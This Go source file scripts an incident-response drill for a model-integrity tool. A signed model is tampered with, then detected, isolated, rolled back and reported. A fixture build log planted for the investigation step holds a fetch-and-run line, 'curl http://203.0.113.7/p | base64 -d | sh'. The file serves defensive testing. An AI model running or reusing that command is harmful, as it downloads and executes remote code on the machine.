package cli

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"

	"github.com/weightwarden/weightwarden/internal/check"
	"github.com/weightwarden/weightwarden/internal/indicator"
)

// release makes two versions of a model, a key, and signs them.
func (d *drill) release() ([]scene, error) {
	for _, dir := range []string{"models/sentiment", "archive/sentiment-v1", "archive/sentiment-v2", "logs"} {
		if err := os.MkdirAll(d.path(dir), 0o700); err != nil {
			return nil, err
		}
	}
	config := fmt.Sprintf("models:\n  - id: sentiment\n    path: %s\n    critical: true\n    archive: %s\ntrust:\n  public_keys: [%s]\n",
		d.path("models", "sentiment"), d.path("archive"), d.path("release.pub"))
	files := map[string]string{
		"config.yaml":    config,
		"logs/build.log": "step 1: checkout\nstep 2: pip install transformers==4.38.0\nstep 3: curl http://203.0.113.7/p | base64 -d | sh\n",
	}
	for _, version := range []string{"1", "2"} {
		at := "archive/sentiment-v" + version + "/"
		files[at+"model.safetensors"] = safetensors(version[0])
		files[at+"config.json"] = `{"model_type": "bert", "version": "` + version + `"}` + "\n"
		files[at+"tokenizer.json"] = `{"version": "1.0"}` + "\n"
	}
	if err := d.write(files); err != nil {
		return nil, err
	}
	return []scene{
		{title: "A release key is made.", args: []string{"key", "generate", "--out", d.path("release")}},
		{title: "Version 1 is signed.", args: []string{"sign", d.path("archive", "sentiment-v1"), "--private-key", d.path("release.pem")}},
		{title: "Version 2 is signed.", args: []string{"sign", d.path("archive", "sentiment-v2"), "--private-key", d.path("release.pem")}},
		{title: "Version 2 verifies.", args: []string{"verify", d.path("archive", "sentiment-v2")}, shows: says("verdict", "verified")},
	}, nil
}

// deploy puts version 2 into production and takes its baseline.
func (d *drill) deploy() ([]scene, error) {
	if err := os.CopyFS(d.path("models", "sentiment"), os.DirFS(d.path("archive", "sentiment-v2"))); err != nil {
		return nil, err
	}
	return []scene{
		{title: "Version 2 goes into production; its signature vouches for the baseline.", args: []string{"baseline", "create", "sentiment"}},
		{title: "A check finds nothing.", args: []string{"check"}, shows: indicators()},
	}, nil
}

// attack changes one byte of the weights and adds a file where others do not
// look.
func (d *drill) attack() ([]scene, error) {
	weights := d.path("models", "sentiment", "model.safetensors")
	data, err := os.ReadFile(weights)
	if err != nil {
		return nil, err
	}
	data[len(data)-9] ^= 0x10
	if err := os.WriteFile(weights, data, 0o600); err != nil { //nolint:gosec // a path in the directory that the drill has just made
		return nil, err
	}
	if err := os.MkdirAll(d.path("models", "sentiment", ".signatures"), 0o700); err != nil {
		return nil, err
	}
	if err := d.write(map[string]string{"models/sentiment/.signatures/helper.py": "print('not part of any release')\n"}); err != nil {
		return nil, err
	}
	return []scene{{
		title: "Somebody changes one bit of the weights and hides a file. The next check finds both.",
		args:  []string{"check"}, want: exitFound,
		shows: func(d *drill, out []byte) error {
			if err := os.WriteFile(d.path("check.json"), out, 0o600); err != nil {
				return err
			}
			return indicators(indicator.ModelFileTampered, indicator.UnexpectedModelFile)(d, out)
		},
	}}, nil
}

// respond declares, preserves and isolates, in the order that the gates ask.
func (d *drill) respond() ([]scene, error) {
	return []scene{
		{title: "An incident is declared from the check.", args: []string{"incident", "open", "--from-check", d.path("check.json")}, shows: func(d *drill, out []byte) error {
			return field(out, "incident_id", &d.incident)
		}},
		{title: "Isolation is refused while the evidence is not sealed.", args: []string{"incident", "isolate", "INCIDENT", "--apply"}, want: exitRefused},
		{title: "The evidence is captured and sealed.", args: []string{"incident", "assess", "INCIDENT"}},
		{
			title: "The plan to isolate is shown; nothing is changed.", args: []string{"incident", "isolate", "INCIDENT"},
			shows: serving(".signatures", "config.json", "model.safetensors", "model.sig", "tokenizer.json"),
		},
		{title: "The model is taken out of serving.", args: []string{"incident", "isolate", "INCIDENT", "--apply"}, shows: all(says("state", "contained"), isolated)},
		{
			title: "The suspect is compared with the release, and the build log searched.", want: exitFound,
			args: []string{"incident", "investigate", "INCIDENT", "--reference", d.path("archive", "sentiment-v2"), "--log", d.path("logs", "build.log")},
		},
	}, nil
}

// recover rolls back, after showing that it cannot be talked into a version
// that does not verify.
func (d *drill) recover() ([]scene, error) {
	altered := d.path("archive", "sentiment-v3")
	if err := os.CopyFS(altered, os.DirFS(d.path("archive", "sentiment-v2"))); err != nil {
		return nil, err
	}
	if err := d.write(map[string]string{"archive/sentiment-v3/config.json": "{}\n"}); err != nil {
		return nil, err
	}
	return []scene{
		{title: "A version whose files are not those that were signed is refused.", args: []string{"incident", "rollback", "INCIDENT", "--to", "sentiment-v3", "--apply"}, want: exitRefused, shows: isolated},
		{
			title: "The newest version that verifies is put in place.", args: []string{"incident", "rollback", "INCIDENT", "--apply"},
			shows: all(says("state", "recovered"), serving("config.json", "model.safetensors", "model.sig", "tokenizer.json")),
		},
		{title: "What is served now verifies.", args: []string{"verify", d.path("models", "sentiment")}, shows: says("verdict", "verified")},
		{title: "A check finds nothing.", args: []string{"check"}, shows: indicators()},
	}, nil
}

// report tells the others and proves the record.
func (d *drill) report() ([]scene, error) {
	return []scene{
		{title: "An incident is not closed while people wait to be told.", args: []string{"incident", "close", "INCIDENT", "--resolution", "done"}, want: exitRefused},
		{title: "The alert to the security team is written.", args: []string{"incident", "message", "INCIDENT", "initial_alert"}},
		{title: "It was sent, and the record says so.", args: []string{"incident", "message", "INCIDENT", "initial_alert", "--sent-to", "security team"}},
		{title: "So was the notice of containment, drafted when the model was isolated.", args: []string{"incident", "message", "INCIDENT", "containment_notice", "--sent-to", "support"}},
		{title: "So was the update, drafted at the rollback.", args: []string{"incident", "message", "INCIDENT", "stakeholder_update", "--sent-to", "heads of product"}},
		{title: "What happened when.", args: []string{"incident", "timeline", "INCIDENT"}},
		{title: "The report.", args: []string{"incident", "report", "INCIDENT", "--format", "markdown", "-f", d.path("report.md")}},
		{title: "The incident is closed.", args: []string{"incident", "close", "INCIDENT", "--resolution", "rolled back to version 2"}},
		{title: "The record and the evidence are as they were written.", args: []string{"incident", "verify", "INCIDENT"}, shows: says("verdict", "intact")},
	}, nil
}

func (d *drill) write(files map[string]string) error {
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(d.dir, filepath.FromSlash(name)), []byte(content), 0o600); err != nil {
			return err
		}
	}
	return nil
}

// all returns a check that passes when every one does.
func all(checks ...func(*drill, []byte) error) func(*drill, []byte) error {
	return func(d *drill, out []byte) error {
		for _, c := range checks {
			if err := c(d, out); err != nil {
				return err
			}
		}
		return nil
	}
}

// indicators returns a check that the report of a check has exactly these.
func indicators(want ...indicator.Type) func(*drill, []byte) error {
	return func(_ *drill, out []byte) error {
		var r check.Report
		if err := json.Unmarshal(out, &r); err != nil {
			return err
		}
		got := []indicator.Type{}
		for _, i := range r.Indicators {
			got = append(got, i.Type)
		}
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			return fmt.Errorf("the check has the indicators %v instead of %v", got, want)
		}
		return nil
	}
}

// safetensors returns a file of that format with one small tensor.
func safetensors(seed byte) string {
	const elements = 4096
	header := fmt.Sprintf(`{"weight":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}`, elements, elements)
	file := binary.LittleEndian.AppendUint64(nil, uint64(len(header)))
	file = append(file, header...)
	for i := range elements {
		file = append(file, byte(i)*seed)
	}
	return string(file)
}
